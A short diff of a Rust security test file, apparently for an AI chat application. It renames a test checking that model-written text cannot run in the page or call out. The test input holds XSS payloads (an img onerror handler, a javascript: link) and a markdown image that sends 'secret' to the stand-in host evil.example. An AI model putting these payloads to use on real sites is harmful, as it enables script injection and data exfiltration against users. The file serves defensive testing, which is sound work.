@@ -164,7 +164,7 @@ async fn attack_40_what_a_tool_returns_is_data() {
 }
 
 #[tokio::test]
-async fn what_the_model_writes_cannot_act_in_the_page() {
+async fn attack_41_what_the_model_writes_cannot_act_in_the_page_nor_call_out() {
     let app = TestApp::start().await;
     let ada = app.signed_in("ada").await;
     let words = "<img src=x onerror=alert(1)> ![pixel](https://evil.example/?q=secret) [click](javascript:alert(1)) \
